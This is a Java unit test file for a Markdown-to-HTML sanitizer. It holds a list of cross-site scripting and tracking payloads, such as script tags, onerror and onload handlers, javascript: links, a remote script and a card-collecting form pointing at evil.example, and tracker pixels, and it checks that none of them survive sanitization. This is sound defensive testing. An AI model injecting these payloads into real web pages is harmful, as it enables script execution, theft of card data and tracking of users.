package quartier.catalog.project.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {

    @Test
    void keepsTheFormOfAText() {
        assertThat(Markdown.toHtml("Un **lieu** ouvert\n\n- thé\n- café"))
                .contains("<strong>lieu</strong>")
                .contains("<li>thé</li>");
        assertThat(Markdown.toHtml("# Titre")).contains("<h2>Titre</h2>");
        assertThat(Markdown.toHtml("[site](https://example.org)"))
                .contains("href=\"https://example.org\"")
                .contains("nofollow");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<p onclick=\"alert(1)\">x</p>",
                "<style>*{display:none}</style>",
                "<form action=\"https://evil.example\"><input name=card></form>",
                "![](https://tracker.example/pixel.gif)",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "<img src=\"https://tracker.example/p.gif?who=1\" width=1 height=1>",
                "<picture><source srcset=\"https://tracker.example/p\"></picture>",
                "<link rel=stylesheet href=//tracker.example/x.css>",
                "<video poster=\"https://tracker.example/p\"></video>",
                "<<script>script>alert(1)<</script>/script>"
            })
    void letsNothingThroughThatRuns(String attack) {
        assertThat(Markdown.toHtml("Avant " + attack + " après").toLowerCase(Locale.ROOT))
                .doesNotContain("<script")
                .doesNotContain("javascript:")
                .doesNotContain("<img")
                .doesNotContain("<svg")
                .doesNotContain("<iframe")
                .doesNotContain("<style")
                .doesNotContain("<form")
                .doesNotContain("style=")
                .doesNotContain("onclick=\"")
                .doesNotContain("data:text")
                .doesNotContain("data:image")
                .doesNotContain("tracker.example");
    }
}
